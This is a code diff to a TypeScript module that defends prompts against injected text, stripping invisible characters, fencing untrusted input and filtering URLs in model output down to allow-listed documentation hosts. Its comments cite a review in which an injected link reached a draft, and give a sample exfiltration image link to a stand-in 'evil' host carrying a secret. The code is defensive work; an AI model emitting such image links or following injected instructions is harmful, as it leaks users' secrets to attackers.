@@ -7,19 +7,9 @@
  * nothing it says is sent or executed without the analyst's click.
  */
 import { randomBytes } from 'node:crypto';
+import { stripInvisible } from '../text/unicode';
 
-/**
- * Characters that change what a model reads without changing what a person sees: zero-width characters, bidi
- * controls (Trojan Source, CVE-2021-42574), Unicode tag characters (invisible "ASCII smuggling"), the byte-order
- * mark, soft hyphen, other C0/C1 controls (tab and newline are kept).
- */
-// eslint-disable-next-line no-control-regex -- matching control characters is the point
-const INVISIBLE = /[\u00AD\u061C\u180E\u200B-\u200F\u202A-\u202E\u2060-\u2064\u2066-\u206F\uFEFF\u{E0000}-\u{E007F}\u0000-\u0008\u000B\u000C\u000E-\u001F\u007F-\u009F]/gu;
-
-/** Removes invisible and control characters (keeps tab and newline). */
-export function stripInvisible(text: string): string {
-  return text.replace(INVISIBLE, '');
-}
+export { stripInvisible };
 
 /** Our delimiters are `<<<DATA …>>>`; in untrusted text any run of `<<<` or `>>>` is turned into look-alikes. */
 function defang(text: string): string {
@@ -28,7 +18,7 @@ function defang(text: string): string {
 
 /** Makes untrusted text safe to fence: invisible characters stripped, delimiter look-alikes defanged. */
 export function neutralizeUntrusted(text: string): string {
-  return defang(stripInvisible(text.normalize('NFKC')));
+  return defang(stripInvisible(text).normalize('NFKC'));
 }
 
 /** 16 hex characters from the system's CSPRNG: a customer cannot guess them, so cannot close a fence. */
@@ -77,9 +67,12 @@ export function buildSafePrompt(
 }
 
 export interface UrlPolicy {
-  /** Texts the output was drawn from (retrieved entries): a URL that appears verbatim in one of them survives. */
+  /**
+   * Texts the output was drawn from (retrieved entries): a URL that appears verbatim in one of them, on a host not
+   * allow-listed, is kept as plain text (no scheme, so no editor or mail client makes it a link again).
+   */
   sources: readonly string[];
-  /** Host names whose links always survive (the team's own documentation site), subdomains included. */
+  /** The team's documentation hosts: the only links that survive as links, subdomains included. */
   allowHosts?: readonly string[];
 }
 
@@ -102,19 +95,30 @@ function hostOf(url: string): string | null {
   }
 }
 
-/** True when `url` appears verbatim in a source or its host is allow-listed. `data:`/`javascript:` never are. */
+/**
+ * True when `url`'s host is on the team's allow-list of documentation hosts. Appearing in a cited entry is not
+ * enough: an entry can be injected or learned from a customer's ticket, and a security review got a link from one
+ * into a draft unchecked. `data:`/`javascript:` never are.
+ */
 export function urlAllowed(url: string, policy: UrlPolicy): boolean {
   const clean = trimUrl(url.trim());
   if (!clean || /^(data|javascript):/i.test(clean)) return false;
-  if (policy.sources.some((source) => source.includes(clean))) return true;
   const host = hostOf(clean);
   return host !== null && (policy.allowHosts ?? []).some((allowed) => host === allowed.toLowerCase() || host.endsWith(`.${allowed.toLowerCase()}`));
 }
 
+/** A URL from a source, not allow-listed, as plain text: without its scheme (`docs.example.com/vpn#mtu`). */
+function asPlainText(url: string, policy: UrlPolicy): string | null {
+  const clean = trimUrl(url.trim());
+  if (!clean || /^(data|javascript):/i.test(clean) || !policy.sources.some((source) => source.includes(clean))) return null;
+  return url.replace(/^[a-z][a-z0-9+.-]*:\/\//i, '').replace(/^www\./i, '');
+}
+
 /**
- * Removes from model output every URL that is not in the sources or the allowlist, every markdown image (an image
- * loads by itself: the classic exfiltration channel, `![](https://evil/?q=<secret>)`) and active HTML tags.
- * Returns the cleaned text and what was removed.
+ * Keeps as links only URLs on the allow-list of documentation hosts; a URL quoted from a source is kept as plain text
+ * (`docs.example.com/vpn`), any other is removed, as are markdown images (an image loads by itself: the classic
+ * exfiltration channel, `![](https://evil/?q=<secret>)`) and active HTML tags. Returns the cleaned text and what was
+ * removed.
  */
 export function filterUrls(text: string, policy: UrlPolicy): { text: string; removed: string[] } {
   const removed: string[] = [];
@@ -128,11 +132,15 @@ export function filterUrls(text: string, policy: UrlPolicy): { text: string; rem
   });
   result = result.replace(MARKDOWN_LINK, (m, label: string, url: string) => {
     if (urlAllowed(url, policy)) return m;
+    const plain = asPlainText(url, policy);
+    if (plain !== null) return `${label} (${plain})`;
     removed.push(url);
     return label;
   });
   result = result.replace(URL_PATTERN, (url) => {
     if (urlAllowed(url, policy)) return url;
+    const plain = asPlainText(url, policy);
+    if (plain !== null) return plain;
     removed.push(url);
     return '[link removed]';
   });
